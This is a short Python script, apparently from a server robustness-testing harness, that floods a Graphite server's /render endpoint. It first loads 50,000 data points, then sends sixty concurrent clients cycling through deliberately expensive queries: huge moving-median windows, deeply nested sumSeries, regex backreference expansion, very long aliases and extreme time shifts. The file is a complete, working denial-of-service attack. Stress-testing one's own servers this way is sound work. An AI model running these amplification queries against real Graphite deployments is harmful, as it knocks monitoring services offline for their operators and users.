"""Functions of Graphite that make large results of small input: windows, names, copies."""
from urllib.parse import quote

from swarm import READ, Swarm, get
from target import put_all

TARGETS = ["movingMedian(functions.*,100000)", "group(" + ",".join(["functions.*"] * 200) + ")",
           "aliasSub(functions.*,'(.*)','" + "\\1" * 200 + "')", "holtWintersForecast(functions.*)",
           "sumSeries(" * 50 + "functions.*" + ")" * 50, "timeShift(functions.*,'1000y')", "randomWalk('a')",
           "summarize(functions.*,'1s')", "hitcount(functions.*,'1s')", "applyByNode(functions.*,1,'sumSeries(%.*)')",
           "alias(functions.0," + "'" + "n" * 7000 + "')", "stacked(functions.*)", "linearRegression(functions.*)"]


def prepare(server):
    put_all(server.tcp, (f"put functions.{number % 50} {number} {number * 60}\n" for number in range(50_000)))


def attack(target, deadline):
    def script(number):
        while True:
            yield get("/render?format=json&from=0&until=3000000&target=" + quote(TARGETS[number % len(TARGETS)]))
            yield READ
    Swarm(target.http, 60, script, addresses=target.addresses).run(deadline)
